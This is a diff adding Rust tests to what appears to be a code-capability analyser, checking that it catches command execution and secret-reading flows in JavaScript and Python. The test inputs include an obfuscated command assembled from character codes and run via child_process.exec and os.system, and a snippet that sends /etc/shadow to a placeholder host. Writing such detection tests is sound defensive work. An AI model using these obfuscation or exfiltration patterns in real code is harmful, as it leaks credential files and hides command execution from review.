@@ -2,7 +2,7 @@
 
 use super::facts;
 use crate::capability::{Capability, Source};
-use crate::facts::{Facts, Moment};
+use crate::facts::{Facts, Flow, Moment};
 use crate::ir::Language;
 
 fn js(source: &str) -> Facts {
@@ -167,6 +167,38 @@ fn what_burns_the_steps_hides_nothing_after_it() {
     assert_act(&facts, Capability::Execute, "id");
     let facts = py("x = 0\nwhile x < 100000000:\n    x += 1\nimport os\nos.system('id')");
     assert_act(&facts, Capability::Execute, "id");
+}
+
+#[test]
+fn a_loop_that_makes_something_is_run_to_its_end() {
+    const ROUNDS: usize = 3_000;
+    let codes = format!("[{}105, 100]", "32, ".repeat(ROUNDS));
+    let each = format!("const codes = {codes}; let s = ''; for (let i = 0; i < codes.length; i++)");
+    for (made, command) in [
+        ("{ s += String.fromCharCode(codes[i]) }", "s"),
+        ("{ parts[i] = String.fromCharCode(codes[i]) }", "parts.join('')"),
+        ("{ parts.push(String.fromCharCode(codes[i])) }", "parts.join('')"),
+    ] {
+        let facts = js(&format!("const parts = []; {each} {made}\nrequire('child_process').exec({command}.trim())"));
+        assert_act(&facts, Capability::Execute, "id");
+        assert!(facts.gaps.is_empty(), "{:?}", facts.gaps);
+    }
+    let facts = py(&format!(
+        "import os\ncodes = {codes}\ns = ''\ni = 0\nwhile i < len(codes):\n    s += chr(codes[i])\n    i += 1\nos.system(s.strip())"
+    ));
+    assert_act(&facts, Capability::Execute, "id");
+}
+
+#[test]
+fn a_function_is_looked_at_again_for_what_comes_from_somewhere_else() {
+    let plain = "send('a', {});\n".repeat(9);
+    let facts = js(&format!(
+        "const fs = require('fs'), https = require('https');\n\
+         function send(data, options) {{ https.request('https://x.invalid/').end(data, options); return {{}} }}\n\
+         {plain}send(fs.readFileSync('/etc/shadow'), {{}})"
+    ));
+    let reads = |flow: &Flow| flow.from.iter().any(|(source, _)| *source == Source::Secret);
+    assert!(facts.flows.iter().any(reads), "{:?}", facts.flows);
 }
 
 #[test]
